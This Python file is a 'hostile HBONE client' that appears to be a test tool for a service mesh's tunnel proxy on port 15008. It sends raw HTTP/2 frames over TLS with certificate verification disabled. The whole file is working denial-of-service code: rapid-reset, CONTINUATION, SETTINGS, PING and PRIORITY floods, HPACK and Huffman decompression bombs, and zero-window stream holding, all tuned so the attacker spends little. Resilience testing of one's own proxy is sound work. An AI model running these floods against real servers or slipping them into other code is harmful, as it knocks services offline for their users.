# SPDX-License-Identifier: Apache-2.0
"""A hostile HBONE client of raw HTTP/2 frames over Python's ssl. Runs inside a pod; prints one line of JSON.

    h2raw.py connect HOST CERT KEY AUTHORITY [HEADER=VALUE ...]   one CONNECT: status, and what the application says
    h2raw.py flood NAME HOST CERT KEY AUTHORITY SECONDS           one of FLOODS for so long
    h2raw.py hold HOST CERT KEY AUTHORITY TUNNELS SECONDS         streams whose windows stay shut: how many were answered
"""
import json
import os
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 1, 4, 1
WAIT_S = 30  # for an answer
SHUT = 190  # streams of one connection, below what it may have
FRAMES_MAX, BYTES_MAX = 1 << 15, 1 << 24  # of a flood, on one connection


def frame(kind, flags=0, stream=0, payload=b""):
    """One HTTP/2 frame."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def text(value):
    """A string literal of HPACK; shorter than 127 bytes, no Huffman."""
    return bytes((len(value),)) + value


def connect_head(authority, extra=()):
    """The header block of a CONNECT, nothing indexed."""
    block = b"\x02" + text(b"CONNECT") + b"\x01" + text(authority.encode())
    for name, value in extra:
        block += b"\x00" + text(name.encode()) + text(value.encode())
    return block


class Peer:
    """A TLS connection to 15008 on which frames go out as they are."""

    def __init__(self, host, cert, key):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        if cert != "-":
            context.load_cert_chain(cert, key)
        self.socket = context.wrap_socket(socket.create_connection((host, 15008), timeout=WAIT_S))
        self.buffer = b""
        self.send(PREFACE + frame(SETTINGS))

    def send(self, data):
        """All of it, or an exception."""
        self.socket.sendall(data)

    def read_frame(self, timeout):
        """(kind, flags, stream, payload); None at the end."""
        self.socket.settimeout(timeout)
        while len(self.buffer) < 9 or len(self.buffer) < 9 + int.from_bytes(self.buffer[:3], "big"):
            data = self.socket.recv(65536)
            if not data:
                return None
            self.buffer += data
        size = 9 + int.from_bytes(self.buffer[:3], "big")
        one, self.buffer = self.buffer[:size], self.buffer[size:]
        return one[3], one[4], struct.unpack(">I", one[5:9])[0], one[9:]


def status_of(block):
    """:status of an answer: an indexed one, or a literal."""
    known = {0x88: 200, 0x8C: 400, 0x8D: 404, 0x8E: 500}
    if block[0] in known:
        return known[block[0]]
    return next((int(s) for s in (b"401", b"503", b"400", b"200") if s in block), huffman_status(block))


def huffman_status(block):
    """The digits 0-9 of Huffman code, enough for a status."""
    at = 2 if block[0] & 0x0F != 0x0F else 3
    bits = "".join(f"{b:08b}" for b in block[at:at + (block[at - 1] & 0x7F)])
    codes = {"00000": "0", "00001": "1", "00010": "2", "011001": "3", "011010": "4", "011011": "5"}
    out = ""
    while len(out) < 3:
        code = next((c for c in codes if bits.startswith(c)), None)
        if not code:
            return 0
        out, bits = out + codes[code], bits[len(code):]
    return int(out)


def connect(host, cert, key, authority, extra):
    """One CONNECT. "accepted": the peer spoke HTTP/2 with us at all."""
    answer = {"accepted": False, "status": 0, "said": "", "error": ""}
    try:
        peer = Peer(host, cert, key)
        peer.send(frame(HEADERS, END_HEADERS, 1, connect_head(authority, extra)) + frame(DATA, 0, 1, b"hello"))
        end = time.monotonic() + WAIT_S
        while time.monotonic() < end and not answer["said"]:
            got = peer.read_frame(WAIT_S)
            if not got:
                break
            answer["accepted"] = True
            kind, _, stream, payload = got
            if kind == HEADERS and stream == 1:
                answer["status"] = status_of(payload)
                if answer["status"] != 200:
                    break
            elif kind == DATA and stream == 1:
                answer["said"] += payload.decode()
    except (OSError, ssl.SSLError) as e:
        answer["error"] = str(e)
    return answer


def rapid_reset(number, head):
    """Open and reset, without waiting."""
    stream = 1 + 2 * number
    return frame(HEADERS, END_HEADERS, stream, head) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def bomb(number, head):
    """One large entry in the table, then many references to it, in blocks that are no longer than a header list may be."""
    stream = 1 + 2 * number
    entry = b"\x40" + text(b"x-bomb") + b"\x7f\xa1\x1e" + b"a" * 4000 if number == 0 else b""
    return frame(HEADERS, END_HEADERS, stream, head + entry + b"\xbe" * 3900)


def huffman_zeros(size):
    """A string literal of HPACK in Huffman code, which is all zeros: 8 characters from 5 bytes. `size`: in bytes."""
    rest = size - 127
    return bytes((0xFF, 0x80 | rest & 0x7F, rest >> 7)) + bytes(size)


def huffman_bomb(number, head):
    """Names and values that are longer than what is sent of them."""
    field = b"\x00" + text(b"x-bomb") + huffman_zeros(8000)
    return frame(HEADERS, END_HEADERS, 1 + 2 * number, head + field * 2)


def small_huffman_bomb(number, head):
    """The same, as long as a block may be."""
    return frame(HEADERS, END_HEADERS, 1 + 2 * number, head + b"\x00" + text(b"x-bomb") + huffman_zeros(7500))


def letters(number, head):
    """Names and values of one letter in Huffman code: the most work for a byte."""
    return frame(HEADERS, END_HEADERS, 1 + 2 * number, head + b"\x00\x81\x1f\x81\x1f" * 400)


def past(_number, _head):
    """A block for a stream that is past: unpacked for the table's sake, and nobody is told of it."""
    return frame(HEADERS, END_HEADERS, 1, b"\x00\x01X\x01x" + b"\x90" * 1500)


def after_the_end(kind, payload):
    """What still comes of a stream that its client has ended."""
    return lambda number, head: (frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * number, head) +
                                 frame(kind, END_HEADERS if kind == HEADERS else 0, 1 + 2 * number, payload or head))


def shut_streams(head, size):
    """As many streams as may be to an application that sends, each with a window of `size`; and room on the connection."""
    return (frame(SETTINGS, 0, 0, struct.pack(">HI", 4, size)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFF0000 - 65535)) +
            b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * n, head) for n in range(SHUT)))


# name: (frames that begin it, frame number n)
FLOODS = {
    "rapid reset": (None, rapid_reset),
    "CONTINUATION": (lambda h: frame(HEADERS, 0, 1, h), lambda n, h: frame(CONTINUATION, 0, 1, b"\x00" + text(b"x%d" % n) +
                                                                         text(b"y" * 100))),
    "SETTINGS": (None, lambda n, h: frame(SETTINGS)),
    "window up and down": (
        lambda h: frame(HEADERS, END_HEADERS, 1, h),
        lambda n, h: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0x7FFFFFFF if n % 2 else 0))),
    "PING": (None, lambda n, h: frame(PING, 0, 0, struct.pack(">Q", n))),
    "empty DATA": (lambda h: frame(HEADERS, END_HEADERS, 1, h), lambda n, h: frame(DATA, 0, 1)),
    "one-byte DATA": (lambda h: frame(HEADERS, END_HEADERS, 1, h), lambda n, h: frame(DATA, 0, 1, b"x")),
    "bytes in turns": (lambda h: frame(HEADERS, END_HEADERS, 1, h) + frame(HEADERS, END_HEADERS, 3, h),
                               lambda n, h: frame(DATA, 0, 1 + n % 2 * 2, b"x")),
    "PRIORITY": (None, lambda n, h: frame(PRIORITY, 0, 1 + 2 * n, struct.pack(">IB", 0, 1))),
    "PRIORITY on itself": (None, lambda n, h: frame(PRIORITY, 0, 1 + 2 * n, struct.pack(">IB", 1 + 2 * n, 1))),
    "PRIORITY too short": (None, lambda n, h: frame(PRIORITY, 0, 1 + 2 * n, b"\0\0\0\1")),
    "DATA after the end": (None, after_the_end(DATA, b"x")),
    "HEADERS after the end": (None, after_the_end(HEADERS, b"")),
    "WINDOW_UPDATE": (None, lambda n, h: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
    "window of 0": (lambda h: frame(HEADERS, END_HEADERS, 1, h),
                           lambda n, h: frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 0))),
    "window past the end": (lambda h: frame(HEADERS, END_HEADERS, 1, h),
                                   lambda n, h: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF))),
    "window byte by byte": (lambda h: shut_streams(h, 1),
                            lambda n, h: frame(WINDOW_UPDATE, 0, 1 + n % SHUT * 2, struct.pack(">I", 1))),
    "windows shut": (lambda h: shut_streams(h, 0), lambda n, h: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
    "endless streams": (None, lambda n, h: frame(HEADERS, END_HEADERS, 1 + 2 * n, h)),
    "made you reset": (None, lambda n, h: frame(HEADERS, END_HEADERS, 1 + 2 * n, h) +
                       frame(WINDOW_UPDATE, 0, 1 + 2 * n, struct.pack(">I", 0x7FFFFFFF))),
    "HPACK bomb": (None, bomb),
    "Huffman bomb": (None, huffman_bomb),
    "small Huffman bomb": (None, small_huffman_bomb),
    "Huffman letters": (None, letters),
    "HEADERS of the past": (lambda h: frame(HEADERS, END_HEADERS, 3, h), past),
    "empty names": (None, lambda n, h: frame(HEADERS, END_HEADERS, 1 + 2 * n, h + b"\x00\x00\x00" * 200)),
    "GET": (None, lambda n, h: frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * n, b"\x82\x87\x84\x01\x01x")),
    "refused CONNECT": (None, lambda n, h: frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * n, connect_head("nowhere"))),
    "PUSH_PROMISE": (None, lambda n, h: frame(PUSH, END_HEADERS, 1, struct.pack(">I", 2))),
}

# Those that hear the answers before they go on, so that no more streams are open than may be.
IN_TURNS = ("refused CONNECT",)
# Those whose streams lead to an application that sends without being asked.
FROM_A_SOURCE = ("window byte by byte", "windows shut")


def blocks(name, head):
    """A flood's frames in pieces for one write each, made before the clock runs: the attacker shall pay for little but the TLS."""
    made, size, number = [], 0, 0
    while number < FRAMES_MAX and size < BYTES_MAX:
        made.append(b"".join(FLOODS[name][1](n, head) for n in range(number, number + 64)))
        number, size = number + 64, size + len(made[-1])
    return made


def flood(name, host, cert, key, authority, seconds):
    """Again and again, with a new connection whenever the last one was closed or all frames are out. Answers are not read
    but by those of IN_TURNS: they pile up."""
    head = connect_head(authority)
    begin, made = FLOODS[name][0], blocks(name, head)
    result = {"frames": 0, "connections": 0, "refused": 0}
    cpu = time.process_time()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            peer = Peer(host, cert, key)
            result["connections"] += 1
            if begin:
                peer.send(begin(head))
            peer.socket.settimeout(1)
            for block in made:
                if time.monotonic() > end:
                    break
                peer.send(block)
                result["frames"] += 64
                if name in IN_TURNS:
                    peer.socket.recv(1 << 16)
        except (OSError, ssl.SSLError):
            result["refused"] += 1
    result["cpu"] = round(time.process_time() - cpu, 2)
    return result


def hold(host, cert, key, authority, tunnels, seconds):
    """So many tunnels with as many streams as may be, of which no byte is taken for so long."""
    result = {"answered": 0, "bytes": 0}
    peers = [Peer(host, cert, key) for _ in range(tunnels)]
    for peer in peers:
        peer.send(shut_streams(connect_head(authority), 0))
    for peer in peers:
        end = time.monotonic() + seconds
        try:
            while got := peer.read_frame(max(end - time.monotonic(), 0.1)):
                result["answered"] += got[0] == HEADERS and status_of(got[3]) == 200
                result["bytes"] += len(got[3]) if got[0] == DATA else 0
        except TimeoutError:
            pass
    return result


if __name__ == "__main__":
    if sys.argv[1] == "connect":
        print(json.dumps(connect(*sys.argv[2:6], [h.split("=", 1) for h in sys.argv[6:]])))
    elif sys.argv[1] == "hold":
        print(json.dumps(hold(*sys.argv[2:6], int(sys.argv[6]), float(sys.argv[7]))))
    else:
        print(json.dumps(flood(*sys.argv[2:7], float(sys.argv[7]))))
